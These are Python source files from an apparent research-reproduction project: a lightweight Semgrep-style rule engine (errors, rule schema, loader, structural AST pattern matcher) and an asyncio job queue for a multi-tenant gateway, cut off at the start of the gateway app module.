    """Compile YAML, returning ``(ruleset, None)`` or ``(None, error_message)``."""
    try:
        return compile_yaml(text), None
    except Exception as exc:
        return None, str(exc)
