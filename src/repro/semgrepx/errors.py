"""Errors raised by the Semgrep-lite engine.

Message phrasing mirrors ``semgrep --validate`` so the alignment agent's
error-driven repair loop behaves like the paper describes.
"""

from __future__ import annotations


class SemgrepError(Exception):
    """Base class for Semgrep-lite errors."""


class SemgrepRuleError(SemgrepError):
    """A structural problem in a rule definition (missing keys, bad YAML...)."""

    def __init__(self, message: str, rule_id: str | None = None) -> None:
        prefix = f"rule '{rule_id}': " if rule_id else ""
        super().__init__(f"invalid rule schema: {prefix}{message}")
        self.rule_id = rule_id
        self.reason = message


class SemgrepPatternError(SemgrepError):
    """A pattern that cannot be parsed into a matchable form."""

    def __init__(self, message: str, pattern: str | None = None, rule_id: str | None = None) -> None:
        prefix = f"rule '{rule_id}': " if rule_id else ""
        snippet = f" in pattern: {pattern!r}" if pattern else ""
        super().__init__(f"invalid pattern: {prefix}{message}{snippet}")
        self.rule_id = rule_id
        self.pattern = pattern
        self.reason = message
