"""Semgrep-lite rule schema and builder."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from repro.semgrepx.errors import SemgrepRuleError

_ALLOWED_SEVERITIES = ("INFO", "WARNING", "ERROR")
_PATTERN_KEYS = ("pattern", "patterns", "pattern-either", "pattern-not", "pattern-regex")


@dataclass
class SemgrepRule:
    """One rule as it appears in a Semgrep YAML file."""

    id: str
    message: str
    languages: list[str] = field(default_factory=lambda: ["python"])
    severity: str = "WARNING"
    metadata: dict[str, Any] = field(default_factory=dict)
    pattern: str | None = None
    patterns: list[dict[str, Any]] = field(default_factory=list)
    pattern_either: list[dict[str, Any]] = field(default_factory=list)
    pattern_not: str | None = None
    pattern_regex: str | None = None

    # -- validation ---------------------------------------------------------
    def validate(self) -> None:
        if not self.id or not str(self.id).strip():
            raise SemgrepRuleError("missing required key 'id'")
        if not self.message or not str(self.message).strip():
            raise SemgrepRuleError("missing required key 'message'", rule_id=self.id)
        if not self.languages:
            raise SemgrepRuleError("missing required key 'languages'", rule_id=self.id)
        if self.severity not in _ALLOWED_SEVERITIES:
            raise SemgrepRuleError(
                f"invalid severity {self.severity!r} (expected one of {_ALLOWED_SEVERITIES})",
                rule_id=self.id,
            )
        if not self.has_pattern_operator():
            raise SemgrepRuleError(
                "rule must define one of: " + ", ".join(_PATTERN_KEYS), rule_id=self.id
            )

    def has_pattern_operator(self) -> bool:
        return bool(self.pattern or self.patterns or self.pattern_either or self.pattern_regex)

    # -- (de)serialisation -----------------------------------------------------
    @classmethod
    def from_dict(cls, data: dict[str, Any]) -> "SemgrepRule":
        if not isinstance(data, dict):
            raise SemgrepRuleError(f"rule entry must be a mapping, got {type(data).__name__}")
        known = {
            "id", "message", "languages", "severity", "metadata",
            "pattern", "patterns", "pattern-either", "pattern-not", "pattern-regex",
        }
        unknown = [key for key in data if key not in known]
        if unknown:
            raise SemgrepRuleError(
                f"unknown key {unknown[0]!r}", rule_id=str(data.get("id", "")) or None
            )
        rule = cls(
            id=str(data.get("id", "")),
            message=str(data.get("message", "")),
            languages=list(data.get("languages", []) or []),
            severity=str(data.get("severity", "WARNING")),
            metadata=dict(data.get("metadata", {}) or {}),
            pattern=data.get("pattern"),
            patterns=list(data.get("patterns", []) or []),
            pattern_either=list(data.get("pattern-either", []) or []),
            pattern_not=data.get("pattern-not"),
            pattern_regex=data.get("pattern-regex"),
        )
        rule.validate()
        return rule

    def to_dict(self) -> dict[str, Any]:
        data: dict[str, Any] = {
            "id": self.id,
            "languages": list(self.languages),
            "severity": self.severity,
            "message": self.message,
        }
        if self.metadata:
            data["metadata"] = dict(self.metadata)
        if self.pattern is not None:
            data["pattern"] = self.pattern
        if self.patterns:
            data["patterns"] = list(self.patterns)
        if self.pattern_either:
            data["pattern-either"] = list(self.pattern_either)
        if self.pattern_not is not None:
            data["pattern-not"] = self.pattern_not
        if self.pattern_regex is not None:
            data["pattern-regex"] = self.pattern_regex
        return data

    # -- convenience -------------------------------------------------------------
    def all_pattern_texts(self) -> list[str]:
        """Every positive pattern string referenced by the rule."""
        texts: list[str] = []
        if self.pattern:
            texts.append(self.pattern)
        for entry in self.patterns:
            if isinstance(entry, dict) and "pattern" in entry:
                texts.append(entry["pattern"])
        for entry in self.pattern_either:
            if isinstance(entry, dict) and "pattern" in entry:
                texts.append(entry["pattern"])
        return texts


@dataclass
class SemgrepRuleBuilder:
    """Fluent builder used by the rule-synthesis stage."""

    rule_id: str
    message: str = ""
    severity: str = "WARNING"
    metadata: dict[str, Any] = field(default_factory=dict)
    _either: list[str] = field(default_factory=list)
    _all: list[str] = field(default_factory=list)
    _regex: str | None = None
    _not: str | None = None

    def set_message(self, message: str) -> "SemgrepRuleBuilder":
        self.message = message
        return self

    def meta(self, key: str, value: Any) -> "SemgrepRuleBuilder":
        self.metadata[key] = value
        return self

    def either_pattern(self, pattern: str) -> "SemgrepRuleBuilder":
        self._either.append(pattern)
        return self

    def and_pattern(self, pattern: str) -> "SemgrepRuleBuilder":
        self._all.append(pattern)
        return self

    def regex(self, pattern: str) -> "SemgrepRuleBuilder":
        self._regex = pattern
        return self

    def not_pattern(self, pattern: str) -> "SemgrepRuleBuilder":
        self._not = pattern
        return self

    @property
    def pattern_count(self) -> int:
        return len(self._either) + len(self._all) + (1 if self._regex else 0)

    def build(self) -> SemgrepRule:
        rule = SemgrepRule(
            id=self.rule_id,
            message=self.message or f"Detected {self.rule_id.replace('-', ' ')}",
            severity=self.severity,
            metadata=dict(self.metadata),
        )
        if len(self._either) == 1 and not self._all:
            rule.pattern = self._either[0]
        elif self._either:
            rule.pattern_either = [{"pattern": p} for p in self._either]
        if self._all:
            rule.patterns = [{"pattern": p} for p in self._all]
        if self._regex:
            rule.pattern_regex = self._regex
        if self._not:
            rule.pattern_not = self._not
        rule.validate()
        return rule
