"""Scanning targets and findings for the Semgrep-lite engine.

A :class:`ScanTarget` wraps one package (or an arbitrary set of source
files), parses every Python file once, and builds a cheap text index used to
skip rules whose anchors cannot possibly be present.  Rule sets then match
against the target; results are :class:`SemgrepFinding` records.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass, field
from typing import Iterable, Optional

from repro.corpus.package import Package


@dataclass(frozen=True)
class SemgrepFinding:
    """One rule firing at one location."""

    rule_id: str
    path: str
    line: int
    message: str
    severity: str = "WARNING"
    metavariables: tuple[tuple[str, str], ...] = ()


@dataclass
class ParsedFile:
    """A source file parsed for structural matching."""

    path: str
    source: str
    tree: Optional[ast.AST]

    @property
    def parse_failed(self) -> bool:
        return self.tree is None


@dataclass
class ScanTarget:
    """A set of source files prepared for repeated rule matching."""

    name: str
    files: list[ParsedFile] = field(default_factory=list)
    _haystack: str = ""
    _folded: Optional[str] = None

    @classmethod
    def from_files(cls, name: str, files: Iterable[tuple[str, str]]) -> "ScanTarget":
        parsed: list[ParsedFile] = []
        texts: list[str] = []
        for path, source in files:
            tree: Optional[ast.AST]
            try:
                tree = ast.parse(source)
            except (SyntaxError, ValueError):
                tree = None
            parsed.append(ParsedFile(path=path, source=source, tree=tree))
            texts.append(source)
        return cls(name=name, files=parsed, _haystack="\n".join(texts))

    @classmethod
    def from_package(cls, package: Package) -> "ScanTarget":
        """Build a target from a package's Python source files."""
        return cls.from_files(
            package.identifier,
            ((f.path, f.content) for f in package.files if f.is_python),
        )

    # -- pre-filtering ------------------------------------------------------------
    def contains_any(self, anchors: Iterable[str]) -> bool:
        """True when at least one anchor substring occurs in the target's text."""
        anchors = list(anchors)
        if not anchors:
            return True
        return any(anchor in self._haystack for anchor in anchors)

    def contains_text(self, needle: str) -> bool:
        return needle in self._haystack

    @property
    def parsed_files(self) -> list[ParsedFile]:
        return [f for f in self.files if f.tree is not None]

    @property
    def text(self) -> str:
        return self._haystack

    @property
    def folded_text(self) -> str:
        """``text.casefold()``, computed once — the prefilter's haystack."""
        if self._folded is None:
            self._folded = self._haystack.casefold()
        return self._folded
