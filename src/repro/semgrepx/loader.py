"""Loading and dumping Semgrep-lite rule files (YAML)."""

from __future__ import annotations

from typing import Iterable

import yaml

from repro.semgrepx.errors import SemgrepRuleError
from repro.semgrepx.rule import SemgrepRule


def load_rules_yaml(text: str) -> list[SemgrepRule]:
    """Parse a Semgrep YAML document into validated rules."""
    if not text or not text.strip():
        raise SemgrepRuleError("empty rule file")
    try:
        data = yaml.safe_load(text)
    except yaml.YAMLError as exc:
        raise SemgrepRuleError(f"invalid YAML: {exc}") from exc
    if not isinstance(data, dict) or "rules" not in data:
        raise SemgrepRuleError("top-level mapping must contain a 'rules' list")
    entries = data["rules"]
    if not isinstance(entries, list) or not entries:
        raise SemgrepRuleError("'rules' must be a non-empty list")
    rules = [SemgrepRule.from_dict(entry) for entry in entries]
    seen: set[str] = set()
    for rule in rules:
        if rule.id in seen:
            raise SemgrepRuleError("duplicate rule id", rule_id=rule.id)
        seen.add(rule.id)
    return rules


def dump_rules_yaml(rules: Iterable[SemgrepRule]) -> str:
    """Render rules as a Semgrep YAML document."""
    document = {"rules": [rule.to_dict() for rule in rules]}
    # a generous width keeps long rule messages on one line, which in turn keeps
    # line-oriented fault injection / repair in the LLM substrate well-defined
    return yaml.safe_dump(document, sort_keys=False, default_flow_style=False, width=4096)
