"""The Semgrep-lite pattern language.

A pattern is a fragment of Python source that may contain *metavariables*
(``$X``, ``$CMD``) and the *ellipsis* operator (``...``).  Matching is
structural against the target's AST:

* a metavariable matches any expression node; repeated occurrences of the
  same metavariable must bind to structurally identical subtrees;
* ``...`` inside a call's arguments matches any (possibly empty) run of
  arguments; as a standalone expression it matches anything;
* literals, names and attribute chains must match exactly;
* keyword arguments present in the pattern must be present in the target
  (the target may carry extra keywords, as in Semgrep).

An expression pattern matches any expression node anywhere in the file; a
statement pattern matches statements.  ``anchors()`` exposes the dotted call
names and string literals a match necessarily requires, which the matcher
uses to skip files that cannot possibly match.
"""

from __future__ import annotations

import ast
import re
from dataclasses import dataclass, field
from typing import Optional

from repro.semgrepx.errors import SemgrepPatternError

_METAVAR_RE = re.compile(r"\$([A-Z][A-Z0-9_]*)")
_MV_PREFIX = "__semgrep_mv_"
_ELLIPSIS_NAME = "__semgrep_ellipsis__"
_ELLIPSIS_KWARGS = "__semgrep_ellipsis_kwargs__"


def _encode_pattern_text(text: str) -> str:
    """Rewrite metavariables and ellipses into parseable placeholders."""
    encoded = _METAVAR_RE.sub(lambda m: _MV_PREFIX + m.group(1), text)
    return encoded


def _encode_trailing_call_ellipsis(text: str) -> str:
    """Fallback encoding for ``f(kw=$X, ...)`` style patterns.

    Python forbids a positional argument after keyword arguments, so a
    trailing ``...`` in that position cannot be parsed directly.  Semgrep
    permits it (meaning "and any further arguments"), which we model by
    rewriting it into a ``**kwargs``-style wildcard the matcher understands.
    """
    return re.sub(r"\.\.\.(\s*[,)])", rf"**{_ELLIPSIS_KWARGS}\1", text)


def _is_metavar(node: ast.AST) -> Optional[str]:
    if isinstance(node, ast.Name) and node.id.startswith(_MV_PREFIX):
        return node.id[len(_MV_PREFIX):]
    return None


def _is_ellipsis(node: ast.AST) -> bool:
    if isinstance(node, ast.Expr):
        node = node.value
    return isinstance(node, ast.Constant) and node.value is Ellipsis


@dataclass
class MatchResult:
    """A successful pattern match with its metavariable bindings."""

    bindings: dict[str, str] = field(default_factory=dict)
    node: ast.AST | None = None

    @property
    def line(self) -> int:
        return getattr(self.node, "lineno", 0)


class Pattern:
    """A compiled Semgrep-lite pattern."""

    def __init__(self, text: str) -> None:
        self.text = text
        if not text or not text.strip():
            raise SemgrepPatternError("pattern is empty", pattern=text)
        encoded = _encode_pattern_text(text.strip())
        self._nodes = self._parse(encoded)
        self.is_expression = len(self._nodes) == 1 and isinstance(self._nodes[0], ast.Expr)

    # -- parsing -----------------------------------------------------------------
    def _parse(self, encoded: str) -> list[ast.stmt]:
        try:
            module = ast.parse(encoded)
        except SyntaxError as first_error:
            # Retry with Semgrep's "trailing ellipsis after keyword arguments"
            # form rewritten into a parseable wildcard.
            retry = _encode_trailing_call_ellipsis(encoded)
            if retry != encoded:
                try:
                    module = ast.parse(retry)
                except SyntaxError:
                    module = None
            else:
                module = None
            if module is None:
                raise SemgrepPatternError(
                    f"pattern is not valid Python syntax ({first_error.msg})", pattern=self.text
                ) from first_error
        if not module.body:
            raise SemgrepPatternError("pattern contains no statements", pattern=self.text)
        return module.body

    # -- anchors --------------------------------------------------------------------
    def anchors(self) -> set[str]:
        """Names/attribute-paths/strings that any match must contain.

        Used as a fast pre-filter: if none of a pattern's anchors appear in a
        file's text, structural matching cannot succeed and is skipped.
        Patterns made only of metavariables/ellipses return an empty set
        (meaning "no cheap pre-filter available").
        """
        found = self.identifier_anchors()
        for root in self._nodes:
            for node in ast.walk(root):
                if isinstance(node, ast.Constant) and isinstance(node.value, str):
                    if len(node.value) >= 4:
                        found.add(node.value)
        return found

    def identifier_anchors(self) -> set[str]:
        """The anchors guaranteed to appear *literally* in matching source.

        Identifiers (names, attribute segments) are spelled out wherever
        they are used, so each one is individually required in the text of
        any match — safe for all-of prefilter gates.  String constants are
        excluded: a source file can spell ``"evil"`` as ``"\\x65vil"`` and
        still match the pattern's AST, so a string anchor is only sound
        under the any-of semantics of :meth:`anchors`.
        """
        found: set[str] = set()
        for root in self._nodes:
            for node in ast.walk(root):
                if isinstance(node, ast.Attribute):
                    dotted = _dotted_name(node)
                    if dotted and not dotted.startswith(_MV_PREFIX):
                        found.add(dotted.split(".")[-1])
                elif isinstance(node, ast.Name):
                    if not node.id.startswith(_MV_PREFIX) and node.id != _ELLIPSIS_NAME:
                        found.add(node.id)
        return found

    # -- matching ----------------------------------------------------------------------
    def match_tree(self, tree: ast.AST, max_matches: int = 200) -> list[MatchResult]:
        """Match this pattern against every candidate node of a parsed file."""
        results: list[MatchResult] = []
        pattern_root = self._nodes[0]
        if self.is_expression:
            pattern_expr = pattern_root.value  # type: ignore[attr-defined]
            for node in ast.walk(tree):
                if not isinstance(node, ast.expr):
                    continue
                bindings: dict[str, str] = {}
                if self._match_node(pattern_expr, node, bindings):
                    results.append(MatchResult(bindings=bindings, node=node))
                    if len(results) >= max_matches:
                        return results
        else:
            # statement (or multi-statement) pattern: try to match the sequence
            # starting at every statement position of every block.
            for block in _iter_statement_blocks(tree):
                for start in range(len(block)):
                    bindings = {}
                    if self._match_statements(self._nodes, block[start:], bindings):
                        results.append(MatchResult(bindings=bindings, node=block[start]))
                        if len(results) >= max_matches:
                            return results
        return results

    def matches(self, tree: ast.AST) -> bool:
        return bool(self.match_tree(tree, max_matches=1))

    # -- node-level matching --------------------------------------------------------------
    def _match_statements(self, pattern_stmts: list[ast.stmt], target_stmts: list[ast.stmt],
                          bindings: dict[str, str]) -> bool:
        if not pattern_stmts:
            return True
        head, *rest = pattern_stmts
        if _is_ellipsis(head):
            # ellipsis statement: skip any number of target statements
            for skip in range(len(target_stmts) + 1):
                trial = dict(bindings)
                if self._match_statements(rest, target_stmts[skip:], trial):
                    bindings.update(trial)
                    return True
            return False
        if not target_stmts:
            return False
        trial = dict(bindings)
        if self._match_node(head, target_stmts[0], trial):
            if self._match_statements(rest, target_stmts[1:], trial):
                bindings.update(trial)
                return True
        return False

    def _match_node(self, pattern: ast.AST, target: ast.AST, bindings: dict[str, str]) -> bool:
        # metavariable: bind to anything (consistently)
        metavar = _is_metavar(pattern)
        if metavar is not None:
            rendered = ast.dump(target)
            if metavar in bindings:
                return bindings[metavar] == rendered
            bindings[metavar] = rendered
            return True
        # ellipsis as an expression matches anything
        if isinstance(pattern, ast.Constant) and pattern.value is Ellipsis:
            return True
        # string-literal wildcards: "$URL" binds to any string, "..." matches any string
        if isinstance(pattern, ast.Constant) and isinstance(pattern.value, str):
            if pattern.value.startswith(_MV_PREFIX):
                if isinstance(target, ast.Constant) and isinstance(target.value, str):
                    metavar_name = pattern.value[len(_MV_PREFIX):]
                    if metavar_name in bindings:
                        return bindings[metavar_name] == target.value
                    bindings[metavar_name] = target.value
                    return True
                return False
            if pattern.value == "...":
                return isinstance(target, ast.Constant) and isinstance(target.value, str)
        # Expr wrappers: unwrap so expression patterns match expression statements
        if isinstance(pattern, ast.Expr) and isinstance(target, ast.Expr):
            return self._match_node(pattern.value, target.value, bindings)
        if type(pattern) is not type(target):
            return False
        if isinstance(pattern, ast.Call):
            return self._match_call(pattern, target, bindings)
        if isinstance(pattern, ast.Attribute):
            return (pattern.attr == target.attr
                    and self._match_node(pattern.value, target.value, bindings))
        if isinstance(pattern, ast.Name):
            return pattern.id == target.id
        if isinstance(pattern, ast.Constant):
            return pattern.value == target.value
        if isinstance(pattern, ast.Assign):
            if len(pattern.targets) != len(target.targets):
                return False
            return all(
                self._match_node(p, t, bindings)
                for p, t in zip(pattern.targets, target.targets)
            ) and self._match_node(pattern.value, target.value, bindings)
        if isinstance(pattern, (ast.Import, ast.ImportFrom)):
            return self._match_import(pattern, target)
        # generic structural comparison over child fields
        return self._match_generic(pattern, target, bindings)

    def _match_call(self, pattern: ast.Call, target: ast.Call, bindings: dict[str, str]) -> bool:
        if not self._match_node(pattern.func, target.func, bindings):
            return False
        # a '**__semgrep_ellipsis_kwargs__' wildcard permits any extra arguments
        keywords = list(pattern.keywords)
        open_ended = False
        for index, keyword in enumerate(keywords):
            if keyword.arg is None and isinstance(keyword.value, ast.Name) \
                    and keyword.value.id == _ELLIPSIS_KWARGS:
                open_ended = True
                keywords.pop(index)
                break
        if open_ended:
            args_pattern = list(pattern.args) + [ast.Constant(value=Ellipsis)]
        else:
            args_pattern = list(pattern.args)
        if not self._match_arg_list(args_pattern, target.args, bindings):
            return False
        # every pattern keyword must appear in the target (extra target kwargs allowed)
        for pattern_kw in keywords:
            matched = False
            for target_kw in target.keywords:
                if pattern_kw.arg == target_kw.arg and self._match_node(
                    pattern_kw.value, target_kw.value, dict(bindings)
                ):
                    self._match_node(pattern_kw.value, target_kw.value, bindings)
                    matched = True
                    break
            if not matched:
                return False
        return True

    def _match_arg_list(self, pattern_args: list[ast.expr], target_args: list[ast.expr],
                        bindings: dict[str, str]) -> bool:
        if not pattern_args:
            return not target_args
        head, *rest = pattern_args
        if isinstance(head, ast.Constant) and head.value is Ellipsis:
            for skip in range(len(target_args) + 1):
                trial = dict(bindings)
                if self._match_arg_list(rest, target_args[skip:], trial):
                    bindings.update(trial)
                    return True
            return False
        if not target_args:
            return False
        trial = dict(bindings)
        if self._match_node(head, target_args[0], trial) and self._match_arg_list(
            rest, target_args[1:], trial
        ):
            bindings.update(trial)
            return True
        return False

    @staticmethod
    def _match_import(pattern: ast.AST, target: ast.AST) -> bool:
        if isinstance(pattern, ast.Import) and isinstance(target, ast.Import):
            pattern_names = {alias.name for alias in pattern.names}
            target_names = {alias.name for alias in target.names}
            return pattern_names.issubset(target_names)
        if isinstance(pattern, ast.ImportFrom) and isinstance(target, ast.ImportFrom):
            if pattern.module != target.module:
                return False
            pattern_names = {alias.name for alias in pattern.names}
            target_names = {alias.name for alias in target.names}
            return pattern_names.issubset(target_names)
        return False

    def _match_generic(self, pattern: ast.AST, target: ast.AST, bindings: dict[str, str]) -> bool:
        for field_name, pattern_value in ast.iter_fields(pattern):
            if field_name in ("lineno", "col_offset", "end_lineno", "end_col_offset", "ctx",
                              "type_comment"):
                continue
            target_value = getattr(target, field_name, None)
            if isinstance(pattern_value, ast.AST):
                if not isinstance(target_value, ast.AST):
                    return False
                if not self._match_node(pattern_value, target_value, bindings):
                    return False
            elif isinstance(pattern_value, list):
                if not isinstance(target_value, list):
                    return False
                if any(isinstance(item, ast.stmt) for item in pattern_value):
                    if not self._match_statements(pattern_value, target_value, bindings):
                        return False
                else:
                    if len(pattern_value) != len(target_value):
                        return False
                    for p_item, t_item in zip(pattern_value, target_value):
                        if isinstance(p_item, ast.AST):
                            if not self._match_node(p_item, t_item, bindings):
                                return False
                        elif p_item != t_item:
                            return False
            else:
                if pattern_value != target_value:
                    return False
        return True


def _dotted_name(node: ast.AST) -> str:
    """Render an attribute chain like ``requests.post`` (empty if not simple)."""
    parts: list[str] = []
    current = node
    while isinstance(current, ast.Attribute):
        parts.append(current.attr)
        current = current.value
    if isinstance(current, ast.Name):
        parts.append(current.id)
        return ".".join(reversed(parts))
    return ""


def _iter_statement_blocks(tree: ast.AST):
    """Yield every list of statements (module body, function bodies, ...)."""
    for node in ast.walk(tree):
        for field_name in ("body", "orelse", "finalbody", "handlers"):
            block = getattr(node, field_name, None)
            if isinstance(block, list) and block and isinstance(block[0], ast.stmt):
                yield block
