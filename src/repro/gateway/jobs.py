"""The gateway's async job queue and its explicit job-state machine.

Every unit of work the gateway accepts — a scan batch, a streaming
generation feed — becomes a :class:`Job` that moves through

    queued -> running -> done | failed | cancelled

and nothing else: clients poll (or await) the job instead of holding a
connection open for the duration.  :class:`JobQueue` owns a fixed pool of
asyncio worker tasks pulling submissions off an internal queue, so
concurrency is bounded no matter how many tenants submit at once.  The
queue keeps a **bounded history** of finished jobs (oldest terminal jobs
are evicted first) so a long-running gateway's memory does not grow with
its lifetime.

The state machine lives here, standalone, so the orchestrator fleet can
later run behind the same queue: a handler is just an async callable
``(job) -> dict`` — the queue knows nothing about scanning or generation.
"""

from __future__ import annotations

import asyncio
import itertools
import time
from dataclasses import dataclass, field
from typing import Awaitable, Callable, Dict, List, Optional

from repro.gateway.ratelimit import Clock

# -- job states ---------------------------------------------------------------------
QUEUED = "queued"
RUNNING = "running"
DONE = "done"
FAILED = "failed"
CANCELLED = "cancelled"
#: A prior process died with this job non-terminal; assigned on restart by
#: the gateway's journal recovery (handlers are closures and cannot be
#: replayed, so the job is surfaced as interrupted rather than re-run).
INTERRUPTED = "interrupted"
#: States a job never leaves.
TERMINAL_STATES = frozenset({DONE, FAILED, CANCELLED, INTERRUPTED})

#: Handler signature: receives the job (for cooperative-cancel checks and
#: labels), returns the job's result payload.
JobHandler = Callable[["Job"], Awaitable[dict]]


@dataclass
class Job:
    """One unit of gateway work and its lifecycle bookkeeping."""

    id: str
    tenant: str
    kind: str  # "scan" | "generate" | anything a handler implements
    label: str = ""
    state: str = QUEUED
    result: Optional[dict] = None
    error: str = ""
    created_at: float = 0.0
    started_at: Optional[float] = None
    finished_at: Optional[float] = None
    cancel_requested: bool = False
    #: serialized span context (``{"trace_id", "span_id"}``) captured at
    #: submission, so the handler's spans join the submitting request's
    #: trace; ``None`` when the submission was untraced
    trace: Optional[dict] = None
    _done: asyncio.Event = field(default_factory=asyncio.Event, repr=False)

    @property
    def finished(self) -> bool:
        return self.state in TERMINAL_STATES

    @property
    def seconds(self) -> Optional[float]:
        if self.started_at is None or self.finished_at is None:
            return None
        return self.finished_at - self.started_at

    def to_dict(self, include_result: bool = True) -> dict:
        data = {
            "id": self.id,
            "tenant": self.tenant,
            "kind": self.kind,
            "label": self.label,
            "state": self.state,
            "error": self.error,
            "created_at": self.created_at,
            "started_at": self.started_at,
            "finished_at": self.finished_at,
            "seconds": round(self.seconds, 6) if self.seconds is not None else None,
            "cancel_requested": self.cancel_requested,
        }
        if include_result:
            data["result"] = self.result
        return data

    def describe(self) -> str:
        label = f" ({self.label})" if self.label else ""
        timing = f" in {self.seconds:.3f}s" if self.seconds is not None else ""
        suffix = f": {self.error}" if self.error else timing
        return f"{self.id}{label} [{self.tenant}] {self.state}{suffix}"


class JobQueue:
    """Bounded-concurrency job execution with awaitable completion.

    Must be :meth:`start`-ed from inside a running event loop.  ``workers``
    caps how many jobs run concurrently (handlers off-load blocking work to
    an executor, so a small pool keeps the loop responsive while scans
    saturate threads).  ``history_limit`` bounds how many *finished* jobs
    stay addressable for status queries.
    """

    def __init__(
        self,
        workers: int = 2,
        history_limit: int = 64,
        clock: Optional[Clock] = None,
    ) -> None:
        if workers < 1:
            raise ValueError("workers must be positive")
        if history_limit < 1:
            raise ValueError("history_limit must be positive")
        self.history_limit = history_limit
        self._worker_count = workers
        self._clock = clock or time.time
        self._queue: "asyncio.Queue[tuple[Job, JobHandler]]" = asyncio.Queue()
        self._jobs: Dict[str, Job] = {}  # insertion-ordered: oldest first
        self._tasks: Dict[str, asyncio.Task] = {}  # running jobs only
        self._workers: List[asyncio.Task] = []
        self._ids = itertools.count(1)
        self._accepting = True
        #: Called after every state transition with the job and its new
        #: state (``queued``/``running``/terminal) — the gateway's journal
        #: and latency histograms hang off this.  Observer errors are
        #: swallowed: telemetry must never fail a job.
        self.on_transition: Optional[Callable[[Job, str], None]] = None

    # -- lifecycle ------------------------------------------------------------------
    async def start(self) -> "JobQueue":
        if self._workers:
            raise RuntimeError("job queue already started")
        self._workers = [
            asyncio.create_task(self._worker(), name=f"jobqueue-worker-{i}")
            for i in range(self._worker_count)
        ]
        return self

    async def shutdown(self, drain: bool = True, timeout: Optional[float] = None) -> None:
        """Stop accepting jobs; drain or cancel what is pending.

        ``drain=True`` waits for every queued and in-flight job to reach a
        terminal state (bounded by ``timeout``); ``drain=False`` cancels
        queued jobs immediately and interrupts running ones.  Worker tasks
        are always torn down at the end.
        """
        self._accepting = False
        if drain:
            joined = self._queue.join()
            if timeout is not None:
                await asyncio.wait_for(joined, timeout)
            else:
                await joined
        else:
            while not self._queue.empty():
                job, _ = self._queue.get_nowait()
                if not job.finished:
                    self._finish(job, CANCELLED, error="cancelled: gateway shutdown")
                self._queue.task_done()
            for task in list(self._tasks.values()):
                task.cancel()
            await self._queue.join()
        for worker in self._workers:
            worker.cancel()
        await asyncio.gather(*self._workers, return_exceptions=True)
        self._workers = []

    @property
    def accepting(self) -> bool:
        return self._accepting

    # -- submission and lookup ------------------------------------------------------
    def submit(
        self, kind: str, tenant: str, run: JobHandler, label: str = ""
    ) -> Job:
        """Enqueue a job; returns immediately with the queued :class:`Job`."""
        if not self._accepting:
            raise RuntimeError("job queue is shutting down; not accepting jobs")
        if not self._workers:
            raise RuntimeError("job queue not started")
        job = Job(
            id=f"{kind}-{next(self._ids)}",
            tenant=tenant,
            kind=kind,
            label=label,
            created_at=self._clock(),
        )
        self._jobs[job.id] = job
        self._trim_history()
        self._notify(job, QUEUED)
        self._queue.put_nowait((job, run))
        return job

    def restore(self, jobs: List[Job]) -> None:
        """Preload jobs recovered from a prior process (oldest first).

        Restored jobs must already be terminal — typically ``interrupted``
        — and only occupy history; the id counter jumps past the highest
        restored id so new submissions never collide with journaled ones.
        """
        highest = 0
        for job in jobs:
            if not job.finished:
                raise ValueError(
                    f"restored job {job.id!r} is {job.state}, not terminal"
                )
            job._done.set()
            self._jobs[job.id] = job
            suffix = job.id.rsplit("-", 1)[-1]
            if suffix.isdigit():
                highest = max(highest, int(suffix))
        if highest:
            self._ids = itertools.count(highest + 1)
        self._trim_history()

    def get(self, job_id: str) -> Job:
        try:
            return self._jobs[job_id]
        except KeyError:
            raise LookupError(f"unknown job {job_id!r}") from None

    def jobs(self, tenant: Optional[str] = None) -> List[Job]:
        """All known jobs (oldest first), optionally one tenant's."""
        return [
            job
            for job in self._jobs.values()
            if tenant is None or job.tenant == tenant
        ]

    def counts(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for job in self._jobs.values():
            counts[job.state] = counts.get(job.state, 0) + 1
        return counts

    @property
    def open_jobs(self) -> int:
        return sum(1 for job in self._jobs.values() if not job.finished)

    async def wait(self, job_id: str, timeout: Optional[float] = None) -> Job:
        """Await a job's terminal state (poll-free client side)."""
        job = self.get(job_id)
        if not job.finished:
            await asyncio.wait_for(job._done.wait(), timeout)
        return job

    # -- cancellation ---------------------------------------------------------------
    def cancel(self, job_id: str) -> bool:
        """Cancel a job; returns ``False`` when it already finished.

        Queued jobs become ``cancelled`` immediately (the worker skips them
        on dequeue).  Running jobs get ``cancel_requested`` set and their
        task cancelled — a handler blocked on an executor call is detached
        promptly, though the executor thread itself runs to completion.
        """
        job = self.get(job_id)
        if job.finished:
            return False
        job.cancel_requested = True
        task = self._tasks.get(job_id)
        if task is None:
            self._finish(job, CANCELLED, error="cancelled while queued")
        else:
            task.cancel()
        return True

    # -- internals ------------------------------------------------------------------
    def _finish(
        self,
        job: Job,
        state: str,
        result: Optional[dict] = None,
        error: str = "",
    ) -> None:
        if job.finished:
            return
        job.state = state
        job.result = result
        job.error = error
        job.finished_at = self._clock()
        job._done.set()
        self._notify(job, state)
        self._trim_history()

    def _notify(self, job: Job, state: str) -> None:
        if self.on_transition is None:
            return
        try:
            self.on_transition(job, state)
        except Exception:
            pass

    def _trim_history(self) -> None:
        terminal = [job_id for job_id, job in self._jobs.items() if job.finished]
        excess = len(terminal) - self.history_limit
        for job_id in terminal[:max(0, excess)]:
            del self._jobs[job_id]

    async def _worker(self) -> None:
        while True:
            job, run = await self._queue.get()
            try:
                if job.finished:  # cancelled while queued
                    continue
                job.state = RUNNING
                job.started_at = self._clock()
                self._notify(job, RUNNING)
                task = asyncio.create_task(run(job), name=f"job-{job.id}")
                self._tasks[job.id] = task
                try:
                    result = await task
                except asyncio.CancelledError:
                    if not task.done():
                        task.cancel()
                    self._finish(job, CANCELLED, error="cancelled while running")
                    current = asyncio.current_task()
                    if current is not None and current.cancelling():
                        raise  # the *worker* is being torn down
                except Exception as exc:
                    self._finish(job, FAILED, error=f"{type(exc).__name__}: {exc}")
                else:
                    self._finish(
                        job,
                        DONE,
                        result=result if isinstance(result, dict) else {"value": result},
                    )
                finally:
                    self._tasks.pop(job.id, None)
            finally:
                self._queue.task_done()
