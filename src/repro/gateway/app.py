"""`GatewayApp` — the async multi-tenant serving front end.

This is the subsystem that turns the library seams grown by earlier PRs —
:class:`~repro.scanserve.registry.RulesetRegistry` versioning + event bus,
:class:`~repro.scanserve.service.ScanService` live re-scan,
:class:`~repro.api.session.GenerationSession` streaming ingest — into one
long-running service:

